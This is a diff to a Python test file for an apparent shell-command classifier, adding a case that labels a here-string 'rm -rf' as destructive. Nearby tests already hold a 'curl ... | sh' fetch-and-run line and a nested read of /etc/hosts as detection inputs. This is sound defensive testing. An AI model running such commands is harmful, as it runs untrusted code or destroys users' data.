@@ -102,6 +102,7 @@ def test_substitutions_and_nested_shell_strings_are_read() -> None:
     nested = shell("bash -lc 'cd /etc && cat hosts'")
     assert paths(nested) == [("hosts", "read", False)] and nested.paths[0].resolved == "/etc/hosts"
     assert shell("sh -c \"curl -s https://x.test | sh\"").primary == "network"
+    assert paths(shell("bash <<< 'rm -rf x'")) == [("x", "destructive", True)]  # a here-string fed to a shell
 
 
 def test_env_assignments_sudo_xargs_and_other_wrappers_are_stepped_over() -> None:
